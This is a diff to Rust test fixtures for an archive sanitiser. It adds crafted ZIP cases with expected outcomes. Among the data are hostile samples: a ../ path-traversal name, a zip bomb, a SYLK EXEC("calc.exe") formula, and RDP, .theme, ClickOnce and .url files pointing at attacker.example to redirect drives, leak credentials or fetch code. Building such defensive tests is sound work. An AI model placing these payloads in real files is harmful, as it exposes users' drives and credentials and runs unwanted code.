@@ -71,6 +71,9 @@ pub struct RawEntry {
     pub central_compressed: Option<u32>,
     /// Bytes written before the local header, referred to by nothing.
     pub junk_before: Vec<u8>,
+    /// DOS (time, date) written in the local header when it should differ
+    /// from the central record's.
+    pub local_time: Option<(u16, u16)>,
 }
 
 impl RawEntry {
@@ -90,6 +93,7 @@ impl RawEntry {
             central_only_at: None,
             central_compressed: None,
             junk_before: Vec::new(),
+            local_time: None,
         }
     }
 
@@ -136,8 +140,9 @@ pub fn raw_zip(entries: &[RawEntry], comment: &[u8]) -> Vec<u8> {
                 p16(&mut out, 20);
                 p16(&mut out, flags);
                 p16(&mut out, e.method);
-                p16(&mut out, 0);
-                p16(&mut out, 0x21);
+                let (time, date) = e.local_time.unwrap_or((0, 0x21));
+                p16(&mut out, time);
+                p16(&mut out, date);
                 let (crc, c, u) = if e.descriptor {
                     (0, 0, 0)
                 } else {
@@ -325,6 +330,14 @@ pub fn pe_bytes() -> Vec<u8> {
     pe
 }
 
+/// `s` as UTF-16LE with a byte-order mark, as Windows writes .rdp files.
+fn utf16le_bom(s: &str) -> Vec<u8> {
+    let mut v = vec![0xFF, 0xFE];
+    s.encode_utf16()
+        .for_each(|u| v.extend_from_slice(&u.to_le_bytes()));
+    v
+}
+
 fn cp932(s: &str) -> Vec<u8> {
     encoding_rs::SHIFT_JIS.encode(s).0.into_owned()
 }
@@ -441,11 +454,25 @@ pub fn cases() -> Vec<Case> {
             raw_zip(
                 &[RawEntry::deflated(
                     "inner.zip",
+                    &raw_zip(&[RawEntry::deflated("../a.txt", text)], b""),
+                )],
+                b"",
+            ),
+            Expect::sanitized(
+                &[ArchiveNested, ArchivePathTraversal],
+                "a ZIP in a ZIP is sanitised recursively (its ../ name neutralised)",
+            ),
+        ),
+        Case::new(
+            "archive/nested_clean.zip",
+            raw_zip(
+                &[RawEntry::deflated(
+                    "inner.zip",
                     &raw_zip(&[RawEntry::deflated("a.txt", text)], b""),
                 )],
                 b"",
             ),
-            Expect::sanitized(&[ArchiveNested], "a ZIP in a ZIP is sanitised recursively"),
+            Expect::clean("a clean ZIP in a ZIP: rebuilt recursively, nothing to report"),
         ),
         Case::new(
             "archive/nested_too_deep.zip",
@@ -462,8 +489,8 @@ pub fn cases() -> Vec<Case> {
             fanout(16, 4, &[b'x'; 1024]),
             Expect::blocked(
                 ArchiveBomb,
-                &[ArchiveNested],
-                "42.zip-style fan-out: 16^4 files, past max_entries (the nested ZIPs done before are listed)",
+                &[],
+                "42.zip-style fan-out: 16^4 files, past max_entries",
             ),
         ),
         Case::new(
@@ -477,8 +504,36 @@ pub fn cases() -> Vec<Case> {
         ),
         Case::new(
             "archive/ratio_bomb.zip",
-            raw_zip(&[zeros_entry("zeros.txt", 16)], b""),
-            Expect::blocked(ArchiveBomb, &[], "16 MiB from ~16 KiB: ratio over 200"),
+            raw_zip(&[zeros_entry("zeros.txt", 64)], b""),
+            Expect::blocked(
+                ArchiveBomb,
+                &[],
+                "64 MiB from ~64 KiB: ratio over 200 past the 16 MiB floor",
+            ),
+        ),
+        Case::new(
+            "archive/small_high_ratio.zip",
+            raw_zip(
+                &[RawEntry::deflated(
+                    "drawing.txt",
+                    &b"0 0 moveto 10 10 lineto stroke\n".repeat(100_000),
+                )],
+                b"",
+            ),
+            Expect::clean(
+                "a 3 MB member compressed over 200:1 (like a vector picture) is small enough to pass",
+            ),
+        ),
+        Case::new(
+            "archive/timestamp_mismatch.zip",
+            raw_zip(
+                &[RawEntry {
+                    local_time: Some((0x6000, 0x5821)),
+                    ..RawEntry::deflated("memo.txt", text)
+                }],
+                b"",
+            ),
+            Expect::clean("local and central headers differ only in the timestamp"),
         ),
         Case::new(
             "archive/size_lie.zip",
@@ -628,6 +683,118 @@ pub fn cases() -> Vec<Case> {
                 b"",
             ),
             Expect::sanitized(&[ArchiveHiddenData], "bytes between entries are dropped"),
+        ),
+        Case::new(
+            "archive/member_sylk_exec.zip",
+            raw_zip(
+                &[RawEntry::deflated(
+                    "book.slk",
+                    b"ID;P\nC;Y1;X1;K0;EEXEC(\"calc.exe\")\nE\n",
+                )],
+                b"",
+            ),
+            Expect::sanitized(
+                &[ArchiveMemberType],
+                "SYLK with EXEC: written as book.txt, never as .slk",
+            ),
+        ),
+        Case::new(
+            "archive/member_iqy.zip",
+            raw_zip(
+                &[RawEntry::deflated(
+                    "query.IQY",
+                    b"WEB\r\n1\r\nhttp://attacker.example/q?[\"x\"]\r\n",
+                )],
+                b"",
+            ),
+            Expect::sanitized(
+                &[ArchiveMemberType],
+                "Excel web query (any case of .iqy): written as .txt",
+            ),
+        ),
+        Case::new(
+            "archive/member_rdp.zip",
+            raw_zip(
+                &[RawEntry::deflated(
+                    "connect.rdp",
+                    &utf16le_bom("full address:s:attacker.example\r\ndrivestoredirect:s:*\r\n"),
+                )],
+                b"",
+            ),
+            Expect::sanitized(
+                &[ArchiveMemberType],
+                "a UTF-16 Remote Desktop file sharing every drive: written as .txt",
+            ),
+        ),
+        Case::new(
+            "archive/member_theme_unc.zip",
+            raw_zip(
+                &[RawEntry::deflated(
+                    "nice.theme",
+                    b"[Theme]\r\nDisplayName=Nice\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\attacker.example\\share\\a.bmp\r\n",
+                )],
+                b"",
+            ),
+            Expect::sanitized(
+                &[ArchiveMemberType],
+                "a theme whose wallpaper is on a share: written as .txt",
+            ),
+        ),
+        Case::new(
+            "archive/member_appref.zip",
+            raw_zip(
+                &[RawEntry::deflated(
+                    "app.appref-ms",
+                    &utf16le_bom("http://attacker.example/app.application#app.application, Culture=neutral, PublicKeyToken=0000000000000000, processorArchitecture=msil"),
+                )],
+                b"",
+            ),
+            Expect::sanitized(&[ArchiveMemberType], "a ClickOnce reference: written as .txt"),
+        ),
+        Case::new(
+            "archive/member_unknown_ext.zip",
+            raw_zip(
+                &[
+                    RawEntry::deflated("notes.dat", text),
+                    RawEntry::deflated("readme", text),
+                ],
+                b"",
+            ),
+            Expect::sanitized(
+                &[ArchiveMemberType],
+                "text under an unknown extension gets .txt; a name without extension stays",
+            ),
+        ),
+        Case::new(
+            "archive/member_shtml_script.zip",
+            raw_zip(
+                &[RawEntry::deflated(
+                    "page.shtml",
+                    b"<html><body><script>alert(1)</script></body></html>\n",
+                )],
+                b"",
+            ),
+            Expect::blocked(TypeExecutable, &[], "HTML with script under .shtml: blocked"),
+        ),
+        Case::new(
+            "archive/member_url.zip",
+            raw_zip(
+                &[RawEntry::deflated(
+                    "link.url",
+                    b"[InternetShortcut]\r\nURL=file://attacker.example/share/x.exe\r\n",
+                )],
+                b"",
+            ),
+            Expect::blocked(TypeExecutable, &[], "an Internet shortcut: blocked as at top level"),
+        ),
+        Case::new(
+            "archive/member_mismatch.zip",
+            raw_zip(&[RawEntry::deflated("photo.jpg", text)], b""),
+            Expect::blocked(
+                TypeMismatch,
+                &[],
+                "a .jpg member that is text: blocked as at top level",
+            ),
         ),
         Case::new(
             "archive/local_central_mismatch.zip",
